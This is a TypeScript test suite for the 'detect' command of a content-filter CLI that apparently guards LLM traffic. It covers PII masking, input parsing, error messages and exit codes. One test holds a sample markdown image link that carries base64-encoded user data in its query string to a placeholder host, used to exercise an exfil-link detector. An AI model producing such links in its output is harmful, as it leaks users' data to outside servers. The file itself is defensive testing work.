import assert from 'node:assert/strict';
import { mkdtemp, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { test, type TestContext } from 'node:test';
import { gzipSync } from 'node:zlib';
import type { Io } from '../../src/cli/command.ts';
import { run } from '../../src/cli/run.ts';

const CARD = 'pay with 4111 1111 1111 1111 please';

interface Row {
  readonly id: string;
  readonly scores: Readonly<Record<string, number>>;
  readonly findings: readonly { detector: string; rule: string; span: { start: number; end: number }; mask: string }[];
}

async function detect(cwd: string, argv: readonly string[], stdin = '') {
  const out: string[] = [];
  const err: string[] = [];
  const io: Io = {
    out: (text) => void out.push(text),
    err: (text) => void err.push(text),
    env: {},
    cwd,
    terminal: false,
    signal: new AbortController().signal,
    stdin: async function* () {
      yield Buffer.from(stdin, 'utf8');
    },
    exitCode: 0,
  };
  const code = await run(['detect', ...argv], io);
  return { code, out, err: err.join('\n'), rows: () => out.map((line) => JSON.parse(line) as Row) };
}

async function directory(t: TestContext): Promise<string> {
  const path = await mkdtemp(join(tmpdir(), 'parapet-detect-'));
  t.after(() => rm(path, { recursive: true, force: true }));
  return path;
}

test('a text on stdin gives one line with a score for each detector and masked findings', async (t) => {
  const { code, err, rows } = await detect(await directory(t), [], CARD);
  assert.deepEqual([code, err], [0, '']);
  const [row, ...others] = rows();
  assert.deepEqual(others, []);
  assert.equal(row!.id, '-');
  assert.ok(row!.scores['personal-data']! > 0.9);
  assert.equal(row!.scores['secret-leak'], 0);
  const found = row!.findings.find(({ rule }) => rule === 'personal-data/payment-card')!;
  assert.equal(CARD.slice(found.span.start, found.span.end), '4111 1111 1111 1111');
  assert.ok(!JSON.stringify(row).includes('4111 1111'), 'the value itself is not in the output');
});

test('rows of a file, plain or gzip, give one line each, in order; numbers and missing ids are named', async (t) => {
  const cwd = await directory(t);
  const lines = [{ id: 'a', text: CARD }, { id: 7, text: 'nothing' }, { text: '' }]
    .map((row) => JSON.stringify(row))
    .join('\n');
  await writeFile(join(cwd, 'rows.jsonl'), `${lines}\n\n`);
  await writeFile(join(cwd, 'rows.gz'), gzipSync(lines));
  for (const file of ['rows.jsonl', 'rows.gz']) {
    const { code, rows } = await detect(cwd, ['--jsonl', file, '--detectors', 'personal-data, secret-leak']);
    assert.equal(code, 0);
    assert.deepEqual(
      rows().map(({ id, findings }) => [id, findings.length]),
      [
        ['a', 1],
        ['7', 0],
        ['3', 0],
      ],
    );
    assert.deepEqual(Object.keys(rows()[0]!.scores).toSorted(), ['personal-data', 'secret-leak']);
  }
  assert.equal((await detect(cwd, ['--jsonl', 'rows.gz', '--fail-on-findings'])).code, 1);
});

test('a byte order mark and line ends of Windows are not part of the rows', async (t) => {
  const cwd = await directory(t);
  await writeFile(
    join(cwd, 'rows.jsonl'),
    '\ufeff{"id":"a","text":"x"}\r\n\r\n{"id":"b","text":"y\u0000 \\ud83d"}\r\n',
  );
  const { code, err, rows } = await detect(cwd, ['--jsonl', 'rows.jsonl', '--detectors', 'secret-leak']);
  assert.deepEqual(
    [code, err, rows().map(({ id }) => id)],
    [2, 'error: This line is not JSON (at rows.jsonl:3)', ['a']],
  );
});

test('a detector that cannot look at a text is named with the reason, and the exit code is 3', async (t) => {
  const { code, rows } = await detect(await directory(t), ['--detectors', 'obfuscation'], 'hello '.repeat(800_000));
  const [row] = rows() as (Row & { failed?: Record<string, string> })[];
  assert.deepEqual(row?.failed, { obfuscation: 'the detector failed with ERR_BODY_TOO_LARGE' });
  assert.deepEqual([code, row?.scores], [3, {}]);
});

test('wrong files and wrong options are said in a line', async (t) => {
  const cwd = await directory(t);
  await writeFile(join(cwd, 'broken.jsonl'), '{"id":"a","text":"fine"}\n{"id":');
  await writeFile(join(cwd, 'textless.jsonl'), '{"id":"a"}\n');
  await writeFile(join(cwd, 'latin1.jsonl'), Buffer.from('{"text":"fine"}\n{"text":"Se\u00f1or"}\n', 'latin1'));
  await writeFile(join(cwd, 'damaged.gz'), Buffer.from([0x1f, 0x8b, 1, 2, 3, 4, 5, 6, 7, 8, 9, 10]));
  await writeFile(join(cwd, 'short.gz'), gzipSync('{"text":"x"}').subarray(0, 20));
  for (const [argv, said] of [
    [['--jsonl', 'broken.jsonl'], /not JSON \(at broken\.jsonl:2\)/],
    [['--jsonl', 'textless.jsonl'], /`text` that is a string \(at textless\.jsonl:1\)/],
    [['--jsonl', 'short.gz'], /ends too early \(at short\.gz\)/],
    [['--jsonl', 'latin1.jsonl'], /not UTF-8, in this line or one of the next \(at latin1\.jsonl:1\)/],
    [['--jsonl', 'damaged.gz'], /begins like gzip and is damaged, or is not gzip \(at damaged\.gz\)/],
    [['--jsonl', '.'], /it is a folder \(at \.\)/],
    [['--jsonl', 'none.jsonl'], /there is no such file \(at none\.jsonl\)/],
    [['--detectors', 'secret-lek'], /no detector "secret-lek"; there are .*secret-leak/],
    [['--channel', 'mail'], /no "mail" for --channel; choose one of user, data, output/],
    [['--format', 'xml'], /choose one of jsonl, table/],
  ] as const) {
    const { code, err } = await detect(cwd, argv);
    assert.equal(code, 2, err);
    assert.match(err, said);
  }
});

test('options come from the configuration that is named', async (t) => {
  const cwd = await directory(t);
  await writeFile(
    join(cwd, 'parapet.yaml'),
    `upstreams: [{ id: a, dialect: openai, url: "https://api.openai.com", models: ['*'] }]
rules: [{ id: links, detector: exfil-link, on: [output], action: block, options: { allow: [ok.example] } }]
`,
  );
  const text = '![](https://ok.example/a.png?d=c2VjcmV0IGRhdGEgb2YgdGhlIHVzZXI) ';
  const plain = await detect(cwd, ['--channel', 'output', '--detectors', 'exfil-link'], text);
  assert.equal(plain.rows()[0]!.findings.length, 1);
  const configured = await detect(
    cwd,
    ['--channel', 'output', '--detectors', 'exfil-link', '--config', 'parapet.yaml'],
    text,
  );
  assert.equal(configured.rows()[0]!.findings.length, 0);
});

test('a table is for people', async (t) => {
  const { out } = await detect(await directory(t), ['--format', 'table'], CARD);
  assert.match(out[0]!, /^detector +score +findings +ms$/m);
  assert.match(out[0]!, /^high +personal-data\/payment-card +9-28 /m);
});
